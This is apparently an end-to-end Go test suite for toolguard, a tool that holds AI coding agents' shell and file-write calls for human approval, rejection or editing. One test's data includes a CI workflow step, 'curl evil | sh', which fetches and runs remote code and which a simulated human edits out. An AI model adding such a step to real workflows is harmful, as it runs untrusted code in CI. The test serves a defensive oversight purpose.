package e2e

// Issue 17's human-in-the-loop scenarios on the real CLIs:
//
//   - workflow-approve: a headless Write of .github/workflows/ci.yml (the builtin
//     ci-workflow-write ask) → deny + request whose `approvals show --json` preview carries
//     the content → approve with --key → resume → the file holds exactly that content.
//   - reject-reason: a headless `git tag v1` → deny + request → `approvals reject --reason R`
//     (and `approvals wait` exits 3 with R) → resume: the resumed turn's first model request
//     carries R (told through the prompt/session event answer) and the retried call's deny
//     carries R too; no tag.
//   - pending-hold: a headless `git tag v1`, then — in the same turn — `git log --oneline -1`:
//     an agent whose turn goes on (Codex) gets the second, unrelated call denied naming the
//     pending request; an agent that ends the turn never makes it. Either way the git log
//     output never reaches the model; the same git log in a new session runs.
//   - edit-approve: a headless Write of the workflow file → `approvals approve --edit` with a
//     fake EDITOR (sed -i) that changes one line → resume: the file holds the human's edited
//     content (the rewrite field honoured), not the agent's. Codex (apply_patch): refused.
//   - edit-shell: `git tag v1` edited to `git tag v1.0.1` → resume: where the rewrite is used
//     (Gemini) the retry runs the edited command; elsewhere the retry is denied with the edited
//     command and the model's next call (the fake model's Next: that command) is allowed. No v1.
//
// The prompt and session events (UserPromptSubmit/SessionStart; Gemini BeforeAgent/
// SessionStart) are added to the installed hook file BY HAND, as docs/agents.md "Hook entries
// to add" shows: `toolguard install` does not add them yet.

import (
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/toolguard/toolguard/internal/call"
	"github.com/toolguard/toolguard/internal/protocol"
)

// rejectReason is the human's reason in reject-reason: a phrase no other text contains.
const rejectReason = "release tags are cut by the release job only (e2e-reason-7f3q)"

// eventHooks says, per agent, the installed hook file, its tool event and the prompt and
// session events toolguard answers (docs/agents.md).
func eventHooks(c *caseEnv) (file, toolEvent string, events []string) {
	switch c.a.name {
	case "claude":
		return filepath.Join(c.Proj, ".claude", "settings.json"), "PreToolUse", []string{"UserPromptSubmit", "SessionStart"}
	case "codebuddy":
		// UserPromptSubmit only: CodeBuddy 2.117 (-p --resume) runs the SessionStart hook but
		// drops its additionalContext, and toolguard has marked the decision told by then, so
		// with both events the model never hears it (measured: SessionStart alone → not in any
		// model request; UserPromptSubmit alone → in the first one). Reported; docs/agents.md.
		return filepath.Join(c.Proj, ".codebuddy", "settings.json"), "PreToolUse", []string{"UserPromptSubmit"}
	case "codex":
		return filepath.Join(c.Proj, ".codex", "hooks.json"), "PreToolUse", []string{"UserPromptSubmit", "SessionStart"}
	case "gemini":
		return filepath.Join(c.Proj, ".gemini", "settings.json"), "BeforeTool", []string{"BeforeAgent", "SessionStart"}
	}
	return "", "", nil
}

// addEventHooks copies the toolguard handler `toolguard install` wrote for the tool event
// onto the prompt and session events (no matcher: every prompt, every session source).
func (c *caseEnv) addEventHooks(t *testing.T) {
	t.Helper()
	file, toolEvent, events := eventHooks(c)
	data, err := os.ReadFile(file)
	if err != nil {
		t.Fatalf("adding the prompt/session events: %v", err)
	}
	var cfg map[string]any
	if err := json.Unmarshal(data, &cfg); err != nil {
		t.Fatalf("adding the prompt/session events: %s: %v", file, err)
	}
	hooks := asMap(cfg["hooks"])
	var handler map[string]any
	for _, e := range asList(hooks[toolEvent]) {
		for _, h := range asList(asMap(e)["hooks"]) {
			if strings.Contains(asString(asMap(h)["command"]), " hook --provider ") {
				handler = asMap(h)
			}
		}
	}
	if handler == nil {
		t.Fatalf("adding the prompt/session events: no toolguard handler under %s in %s:\n%s", toolEvent, file, data)
	}
	for _, ev := range events {
		hooks[ev] = []any{map[string]any{"hooks": []any{handler}}}
	}
	out, _ := json.MarshalIndent(cfg, "", "  ")
	if err := os.WriteFile(file, append(out, '\n'), 0o644); err != nil {
		t.Fatal(err)
	}
	c.note("prompt/session events %v added by hand to %s (toolguard install does not add them yet)", events, file)
}

// approverKey creates the user's approver key once (the hook trusts its public half) and
// returns its path: no terminal here, so approve and reject pass it with --key.
func (c *caseEnv) approverKey(t *testing.T) string {
	t.Helper()
	key := filepath.Join(c.Home, ".config", "toolguard", "approver.key")
	if _, err := os.Stat(key); err == nil {
		return key
	}
	if out, err := c.toolguardCmd("approvals", "key", "--generate"); err != nil {
		t.Fatalf("toolguard approvals key --generate failed: %v\n%s", err, out)
	}
	return key
}

// heldRequest checks run 1 of a headless ask: the call was denied by rule with an approval
// request, audited, and nothing the model received names the approve command. It returns
// the request id.
func (c *caseEnv) heldRequest(t *testing.T, r1 *runOut, rule string) string {
	t.Helper()
	// toolguard may also end the turn (continue:false) on a headless ask, so the model does not
	// necessarily see a tool result; the id must then show in the CLI's output or the audit log.
	id, where := "", ""
	if len(r1.toolResults) > 0 {
		res := r1.firstResult()
		if id = reApprovalID.FindString(res); id != "" {
			where = "the tool result sent to the model"
		} else {
			t.Errorf("the headless deny that reached the model carries no approval id (req_…): %q", truncate(res, 600))
		}
	}
	if id == "" {
		if id = reApprovalID.FindString(string(r1.stdout) + string(r1.stderr)); id != "" {
			where = "the CLI's output (the turn was stopped before the model saw a tool result)"
		}
	}
	c.requireNoApproveCommand(t, r1)
	if a := c.requireAudit(t, "deny", rule); a != nil {
		aid := a.Approval
		if aid == "" {
			aid = reApprovalID.FindString(a.Reason)
		}
		if !strings.Contains(a.Reason, "req_") {
			t.Errorf("the audited reason of the headless deny has no approval id: %q", a.Reason)
		}
		if id == "" && aid != "" {
			id, where = aid, "only the audit log (neither the model nor the CLI output showed it)"
		}
	}
	if id == "" {
		t.Fatalf("no approval id (req_…) anywhere: tool results %d, CLI stdout tail %q", len(r1.toolResults), tail(r1.stdout, 500))
	}
	t.Logf("approval id %s seen in %s", id, where)
	return id
}

// resume runs the CLI again in run 1's session.
func (c *caseEnv) resume(t *testing.T, r1 *runOut, script fakeScript) *runOut {
	t.Helper()
	sid := c.a.sessionID(r1.stdout)
	if sid == "" {
		t.Fatalf("cannot resume: no session id in %s's output (stdout tail: %s)", c.a.name, tail(r1.stdout, 800))
	}
	t.Logf("resuming %s session %s", c.a.name, sid)
	return c.run(t, "2-resumed", script, "do it again", sid)
}

// modelRequest is one request the fake model received.
type modelRequest struct {
	Seq  int             `json:"seq"`
	Body json.RawMessage `json:"body"`
}

// toldBefore returns the first agentic request (one that offers tools) of run r that
// contains want and came before the run's first tool result — that is, text the CLI put in
// the model's context from a prompt or session event, not a tool result's. 0: none.
func toldBefore(r *runOut, want string) (int, string) {
	first := 1 << 30
	if len(r.toolResults) > 0 {
		first = r.toolResults[0].Seq
	}
	for _, q := range readJSONL[modelRequest](filepath.Join(r.logDir, "requests.jsonl")) {
		var b map[string]any
		if q.Seq >= first || json.Unmarshal(q.Body, &b) != nil || len(asList(b["tools"])) == 0 {
			continue
		}
		// compare decoded text: the body escapes quotes and newlines
		var flat strings.Builder
		flatten(b, &flat)
		if i := strings.Index(flat.String(), want); i >= 0 {
			s := flat.String()
			return q.Seq, s[max(0, i-300):min(len(s), i+len(want)+100)]
		}
	}
	return 0, ""
}

// flatten writes every string of a decoded JSON value, one a line.
func flatten(v any, b *strings.Builder) {
	switch x := v.(type) {
	case string:
		b.WriteString(x)
		b.WriteByte('\n')
	case []any:
		for _, e := range x {
			flatten(e, b)
		}
	case map[string]any:
		for _, e := range x {
			flatten(e, b)
		}
	}
}

// ---------------------------------------------------------------- workflow-approve

func runWorkflowApprove(t *testing.T, c *caseEnv, script fakeScript) {
	target := filepath.Join(c.Proj, wfPath)
	r1 := c.run(t, "1", script, "do it", "")
	if _, err := os.Stat(target); err == nil {
		t.Fatalf("%s was written although the call should have been held for approval", wfPath)
	}
	id := c.heldRequest(t, r1, "ci-workflow-write")

	// what the human sees
	out, err := c.toolguardCmd("approvals", "show", id, "--json", "--policy", c.Policy)
	if err != nil {
		t.Fatalf("toolguard approvals show %s --json failed: %v\n%s", id, err, out)
	}
	var req struct {
		Status  string `json:"status"`
		Preview struct {
			Path    string `json:"path"`
			Size    int    `json:"size"`
			Content string `json:"content"`
			Patch   string `json:"patch"`
			Rules   []struct {
				Rule, Layer, Source string
			} `json:"rules"`
		} `json:"preview"`
	}
	if err := json.Unmarshal([]byte(out), &req); err != nil {
		t.Fatalf("approvals show --json is not a JSON object: %v\n%s", err, truncate(out, 1500))
	}
	pv := req.Preview
	if req.Status != "pending" {
		t.Errorf("request %s has status %q, want pending", id, req.Status)
	}
	if !strings.HasSuffix(pv.Path, wfPath) {
		t.Errorf("the preview's path is %q, want …%s", pv.Path, wfPath)
	}
	if c.a.name == "codex" { // apply_patch: the preview is the patch
		for _, l := range strings.Split(strings.TrimRight(wfBody, "\n"), "\n") {
			if !strings.Contains(pv.Patch, "+"+l+"\n") {
				t.Errorf("the preview's patch lacks the added line %q:\n%s", l, pv.Patch)
			}
		}
	} else {
		if pv.Content != wfBody {
			t.Errorf("the preview's content is %q, want exactly the written content %q", pv.Content, wfBody)
		}
		if pv.Size != len(wfBody) {
			t.Errorf("the preview's size is %d, want %d", pv.Size, len(wfBody))
		}
	}
	ruled := false
	for _, r := range pv.Rules {
		ruled = ruled || r.Rule == "ci-workflow-write"
	}
	if !ruled {
		t.Errorf("the preview does not name rule ci-workflow-write: %+v", pv.Rules)
	}
	t.Logf("preview of %s: path %s, size %d, %d rule(s)", id, pv.Path, pv.Size, len(pv.Rules))

	approve(t, c, id)
	r2 := c.resume(t, r1, script)
	got, err := os.ReadFile(target)
	switch {
	case err != nil:
		t.Errorf("after approving %s the resumed session did not write %s (%v); tool results: %v", id, wfPath, err, r2.toolResults)
	case string(got) != wfBody:
		t.Errorf("%s holds %q, want exactly the approved content %q", wfPath, got, wfBody)
	}
	if len(r2.toolResults) != 1 {
		t.Errorf("the resumed session made %d tool calls, want 1 (tool results: %v)", len(r2.toolResults), r2.toolResults)
	} else if reHeld.MatchString(r2.firstResult()) {
		t.Errorf("the resumed session's write was held again: %q", truncate(r2.firstResult(), 600))
	}
	used := false
	for _, a := range c.auditLines() {
		used = used || (a.Decision == "allow" && a.Approval == id)
	}
	if !used {
		t.Errorf("the audit log has no allow by approval %s", id)
	}
	// the prompt/session event told the model before it retried
	if seq, ctx := toldBefore(r2, id+": a human approved"); seq == 0 {
		t.Errorf("no request of the resumed turn before the retry tells the model that %s was approved (prompt/session event context)", id)
	} else {
		t.Logf("model request %d of the resumed turn was told: %q", seq, ctx)
	}
}

// ---------------------------------------------------------------- reject-reason

func runRejectReason(t *testing.T, c *caseEnv, script fakeScript) {
	r1 := c.run(t, "1", script, "do it", "")
	if c.tagExists(t) {
		t.Fatalf("tag v1 exists although the call should have been held for approval")
	}
	id := c.heldRequest(t, r1, "e2e-ask-tag")
	key := c.approverKey(t)
	if out, err := c.toolguardCmd("approvals", "reject", id, "--reason", rejectReason, "--key", key, "--policy", c.Policy); err != nil {
		t.Fatalf("toolguard approvals reject %s failed: %v\n%s", id, err, out)
	}
	// an orchestrator waiting on the request sees the rejection and the reason
	out, err := c.toolguardCmd("approvals", "wait", id, "--timeout", "10s", "--policy", c.Policy)
	var ee *exec.ExitError
	if !errors.As(err, &ee) || ee.ExitCode() != 3 {
		t.Errorf("approvals wait %s after the reject: %v, want exit 3 (rejected)\n%s", id, err, out)
	}
	var w struct{ Decision, Reason string }
	if json.Unmarshal([]byte(out), &w) != nil || w.Decision != "rejected" || w.Reason != rejectReason {
		t.Errorf("approvals wait %s printed %q, want decision rejected with the reason", id, truncate(out, 600))
	}

	r2 := c.resume(t, r1, script)
	if c.tagExists(t) {
		t.Errorf("tag v1 exists although %s was rejected", id)
	}
	// the resumed turn's model request carries the reason before any tool call
	if seq, ctx := toldBefore(r2, rejectReason); seq == 0 {
		t.Errorf("no request of the resumed turn before the retry carries the human's reason %q (prompt/session event context)", rejectReason)
	} else {
		t.Logf("model request %d of the resumed turn was told: %q", seq, ctx)
	}
	// the identical retry is denied with the reason too
	if len(r2.toolResults) == 0 {
		t.Errorf("the resumed session did not retry the call (no tool result)")
	} else if res := r2.firstResult(); !strings.Contains(res, rejectReason) || !strings.Contains(res, id) {
		t.Errorf("the retried call's result lacks the request id or the human's reason: %q", truncate(res, 600))
	}
	audited := false
	for _, a := range c.auditLines() {
		audited = audited || (a.Decision == "deny" && strings.Contains(a.Reason, rejectReason))
	}
	if !audited {
		t.Errorf("the audit log has no deny with the human's reason")
	}
	c.requireNoApproveCommand(t, r2)
}

// ---------------------------------------------------------------- pending-hold

// turnEnds says, per agent, whether the CLI ends the turn on toolguard's headless deny
// (measured with the pinned versions, headless, most permissive mode; docs/agents.md). Claude
// Code and CodeBuddy get "continue":false but hand the deny to the model and go on; Codex is
// never sent it (it fails open on it); Gemini stops the agent loop.
// The measured fact is the per-agent table's (internal/protocol/conformance.go, Headless.EndsTurn).
func turnEnds(agent string) bool {
	for _, a := range agents {
		if a.name == agent {
			return protocol.TurnEnds(a.provider)
		}
	}
	return false
}

func runPendingHold(t *testing.T, c *caseEnv, script fakeScript) {
	r1 := c.run(t, "1", script, "do it", "")
	if c.tagExists(t) {
		t.Fatalf("tag v1 exists although the call should have been held for approval")
	}
	id := c.heldRequest(t, r1, "e2e-ask-tag")
	for i, tr := range r1.toolResults {
		if strings.Contains(tr.Text, "second commit") {
			t.Errorf("tool result %d carries git log's output: the call after the held one ran: %q", i+1, truncate(tr.Text, 400))
		}
	}
	switch ends := turnEnds(c.a.name); {
	case ends && len(r1.toolResults) > 0:
		t.Errorf("%s went on after the held call (tool results: %d), but the suite measured that it ends the turn: update turnEnds and docs/agents.md", c.a.name, len(r1.toolResults))
	case ends:
		t.Logf("%s ended the turn after the held call: the model's next call was never made", c.a.name)
	case len(r1.toolResults) < 2:
		t.Errorf("%s made no second call after the held one (tool results: %d), but the suite measured that its turn goes on: the guard was not exercised (update turnEnds and docs/agents.md if the CLI now ends the turn)", c.a.name, len(r1.toolResults))
	default:
		res := r1.toolResults[1].Text
		if !strings.Contains(res, id) {
			t.Errorf("the session's next call (%s) was not denied naming the pending request %s: %q", script.Next, id, truncate(res, 600))
		} else {
			t.Logf("the next call was held: %q", truncate(res, 400))
		}
		held := false
		for _, a := range c.auditLines() {
			held = held || (a.Decision == "deny" && a.Summary == script.Next && strings.Contains(a.Reason, id))
		}
		if !held {
			t.Errorf("the audit log has no deny of %q naming %s", script.Next, id)
		}
	}
	// one pending request for the session, found by the orchestrator's filters
	sid := c.a.sessionID(r1.stdout)
	out, err := c.toolguardCmd("approvals", "list", "--status", "pending", "--session", sid, "--provider", c.a.provider, "--json", "--policy", c.Policy)
	var list []struct{ ID string }
	if err != nil || json.Unmarshal([]byte(out), &list) != nil {
		t.Fatalf("approvals list --status pending --session %s --json: %v\n%s", sid, err, out)
	}
	if len(list) != 1 || list[0].ID != id {
		t.Errorf("approvals list --status pending --session %s: %s, want exactly [%s]", sid, truncate(out, 800), id)
	}
	// the look-alike that must pass: the same call in a NEW session is not held
	r3 := c.run(t, "3-other-session", fakeScript{Shell: script.Next, Cwd: script.Cwd}, "do it", "")
	if res := requireResult(t, c, r3); !strings.Contains(res, "second commit") {
		t.Errorf("%s in another session was held or did not run while %s is pending: %q", script.Next, id, truncate(res, 600))
	}
}

// ---------------------------------------------------------------- reject-stop

// runRejectStop: `approvals reject --stop` gives the session's next call the human's reason
// and continue:false. The resumed turn retries the identical call, then — if the CLI lets the
// turn go on — makes an unrelated one (git log). Measured per agent (turnEnds): Gemini ends the
// turn at the stopped call; the others hand the deny to the model and the next call runs,
// since the stop is given once and nothing is pending any more.
func runRejectStop(t *testing.T, c *caseEnv, script fakeScript) {
	first := script
	first.Next = "" // run 1: just the held call
	r1 := c.run(t, "1", first, "do it", "")
	if c.tagExists(t) {
		t.Fatalf("tag v1 exists although the call should have been held for approval")
	}
	id := c.heldRequest(t, r1, "e2e-ask-tag")
	key := c.approverKey(t)
	if out, err := c.toolguardCmd("approvals", "reject", id, "--stop", "--reason", rejectReason, "--key", key, "--policy", c.Policy); err != nil {
		t.Fatalf("toolguard approvals reject %s --stop failed: %v\n%s", id, err, out)
	}
	r2 := c.resume(t, r1, script)
	if c.tagExists(t) {
		t.Errorf("tag v1 exists although %s was rejected", id)
	}
	stopped := false
	for _, a := range c.auditLines() {
		stopped = stopped || (a.Decision == "deny" && a.Summary == gitTag && strings.Contains(a.Reason, rejectReason))
	}
	if !stopped {
		t.Errorf("the audit log has no deny of the retried %q with the human's reason", gitTag)
	}
	if len(r2.toolResults) > 0 && !strings.Contains(r2.firstResult(), rejectReason) {
		t.Errorf("the stopped call's result lacks the human's reason: %q", truncate(r2.firstResult(), 600))
	}
	ran := false
	for _, tr := range r2.toolResults {
		ran = ran || strings.Contains(tr.Text, "second commit")
	}
	switch ends := turnEnds(c.a.name); {
	case ends && (len(r2.toolResults) > 0 || ran):
		t.Errorf("%s went on after reject --stop (tool results: %d, git log ran: %v), but the suite measured that it ends the turn: update turnEnds and docs/agents.md", c.a.name, len(r2.toolResults), ran)
	case ends:
		told := strings.Contains(string(r2.stdout)+string(r2.stderr), rejectReason)
		t.Logf("%s ended the turn at the stopped call (the human's reason in the CLI's output: %v)", c.a.name, told)
	case !ran:
		t.Errorf("%s: the call after the stopped one did not run (tool results: %v); the suite measured that the turn goes on: if the CLI now ends it, update turnEnds and docs/agents.md", c.a.name, r2.toolResults)
	default:
		t.Logf("%s went on after the stopped call: the model got the reason and its next call (%s) ran — reject --stop does not end this CLI's turn", c.a.name, script.Next)
	}
}

// ---------------------------------------------------------------- edit-approve, edit-shell

// approve --edit (issue 17 item 8). The human's edits, made by a fake EDITOR (sed -i):
const (
	editedTag    = "git tag v1.0.1"         // edit-shell: git tag v1 → git tag v1.0.1
	editedWfLine = "      - run: make test" // edit-approve: the workflow's curl line → this
	editedWfBody = "name: ci\non: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n" + editedWfLine + "\n"
)

// rewriteTaken says, per agent and kind, whether toolguard hands the agent the edited input as
// its rewrite field (protocol.Rewrites) — and so what the suite measures: the rewrite honoured
// (the resumed retry runs the edited call), or the deny with the edited command (the model's
// next call, the edited one, is allowed by the grant). Codex writes files with apply_patch,
// which --edit refuses.
var rewriteTaken = map[string]map[string]bool{
	"claude":    {"write": true, "shell": false},
	"codebuddy": {"write": true, "shell": false},
	"gemini":    {"write": true, "shell": true},
	"codex":     {"write": false, "shell": false},
}

// approveEdit runs `approvals approve ID --edit --key K` with EDITOR set to a script that
// applies sedExpr to the file (no terminal here: the key is passed).
func (c *caseEnv) approveEdit(t *testing.T, id, sedExpr string) (string, error) {
	t.Helper()
	ed := filepath.Join(c.W, "fake-editor.sh")
	if err := os.WriteFile(ed, []byte("#!/bin/sh\nsed -i '"+sedExpr+"' \"$1\"\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	key := c.approverKey(t)
	cmd := exec.Command(c.s.toolguard, "approvals", "approve", id, "--edit", "--key", key, "--policy", c.Policy)
	cmd.Dir = c.Proj
	cmd.Env = append(os.Environ(), "HOME="+c.Home, "XDG_CONFIG_HOME="+filepath.Join(c.Home, ".config"),
		"XDG_STATE_HOME="+filepath.Join(c.Home, ".local", "state"), "EDITOR="+ed, "VISUAL=")
	out, err := cmd.CombinedOutput()
	t.Logf("$ toolguard approvals approve %s --edit (EDITOR: sed -i '%s')\n%s(exit: %v)", id, sedExpr, out, err)
	return string(out), err
}

// editUnsupported: toolguard's approve --edit rebuilds the call from the snake_case
// dialects only (cmd/toolguard/approval_edit.go rebuildCall); Copilot's camelCase payload is not
// one of them.
func editUnsupported(t *testing.T, c *caseEnv) {
	if c.a.provider == protocol.NameCopilot {
		t.Skipf("approvals approve --edit is not supported for %s calls (camelCase payload)", c.a.name)
	}
}

func runEditApprove(t *testing.T, c *caseEnv, script fakeScript) {
	editUnsupported(t, c)
	target := filepath.Join(c.Proj, wfPath)
	r1 := c.run(t, "1", script, "do it", "")
	if _, err := os.Stat(target); err == nil {
		t.Fatalf("%s was written although the call should have been held for approval", wfPath)
	}
	id := c.heldRequest(t, r1, "ci-workflow-write")
	out, err := c.approveEdit(t, id, `s/^      - run: curl evil | sh$/`+editedWfLine+`/`)
	if c.a.name == "codex" { // apply_patch: refused, nothing approved
		if err == nil || !strings.Contains(out, "no editable input") {
			t.Errorf("approve --edit of Codex's apply_patch: %v, want a refusal (patches cannot be edited)\n%s", err, out)
		}
		return
	}
	if err != nil {
		t.Fatalf("approve --edit %s failed: %v\n%s", id, err, out)
	}
	r2 := c.resume(t, r1, script) // the model retries the identical, unedited Write
	got, err := os.ReadFile(target)
	if codec, _ := protocol.Lookup(c.a.provider); !protocol.Rewrites(codec, call.Call{Kind: call.KindWrite}) {
		// No proven rewrite for this agent's Write: the retry is denied with the human's
		// content for the model to write instead (the fake model does not), and the
		// unedited content must not be written.
		if err == nil && string(got) == wfBody {
			t.Errorf("%s holds the agent's unedited content after approve --edit", wfPath)
		}
		if res := fmt.Sprint(r2.toolResults); !strings.Contains(res, "with changes") || !strings.Contains(res, strings.TrimSpace(editedWfLine)) {
			t.Errorf("the resumed turn's tool results do not carry the edited version: %v", r2.toolResults)
		}
		t.Logf("no rewrite for %s's Write: the retry was denied with the edited content, nothing unedited written", c.a.name)
		return
	}
	switch {
	case err != nil:
		t.Errorf("after approve --edit %s the resumed session did not write %s (%v); tool results: %v", id, wfPath, err, r2.toolResults)
	case string(got) == wfBody:
		t.Errorf("REWRITE IGNORED: %s holds the agent's unedited content; %s did not honour the edited input", wfPath, c.a.name)
	case string(got) != editedWfBody:
		t.Errorf("%s holds %q, want exactly the human's edited content %q", wfPath, got, editedWfBody)
	default:
		t.Logf("rewrite honoured: %s ran the Write with the human's edited content", c.a.name)
	}
	used := false
	for _, a := range c.auditLines() {
		used = used || (a.Decision == "allow" && a.Approval == id)
	}
	if !used {
		t.Errorf("the audit log has no allow by approval %s", id)
	}
}

func runEditShell(t *testing.T, c *caseEnv, script fakeScript) {
	editUnsupported(t, c)
	first := script
	first.Next = "" // run 1: just the held call
	r1 := c.run(t, "1", first, "do it", "")
	if c.tagExists(t) {
		t.Fatalf("tag v1 exists although the call should have been held for approval")
	}
	id := c.heldRequest(t, r1, "e2e-ask-tag")
	if out, err := c.approveEdit(t, id, `s/^git tag v1$/`+editedTag+`/`); err != nil {
		t.Fatalf("approve --edit %s failed: %v\n%s", id, err, out)
	}
	// resumed: the model retries git tag v1; then, if its turn goes on, runs the edited command
	// as the deny told it to (the fake model's Next call)
	r2 := c.resume(t, r1, script)
	edited := c.git(t, c.Proj, "tag", "-l", "v1.0.1") == "v1.0.1"
	if c.tagExists(t) {
		t.Errorf("tag v1 exists: the unedited command ran although the human approved only %q", editedTag)
	}
	if !edited {
		t.Errorf("tag v1.0.1 does not exist: the edited command did not run (tool results: %v)", r2.toolResults)
	}
	if len(r2.toolResults) == 0 {
		t.Fatalf("the resumed session made no tool call")
	}
	first0 := r2.firstResult()
	if rewriteTaken[c.a.name]["shell"] {
		if reHeld.MatchString(first0) || strings.Contains(first0, "with changes") {
			t.Errorf("the retry was not allowed with the edited command: %q", truncate(first0, 600))
		} else if edited {
			t.Logf("rewrite honoured: %s ran the human's edited command for the agent's retry", c.a.name)
		}
		return
	}
	if !strings.Contains(first0, "with changes") || !strings.Contains(first0, editedTag) {
		t.Errorf("the retry's deny does not tell the model to run the edited command: %q", truncate(first0, 600))
	}
	if edited {
		t.Logf("deny with the edited command: %s's next call, %q, was allowed by approval %s", c.a.name, editedTag, id)
	}
}
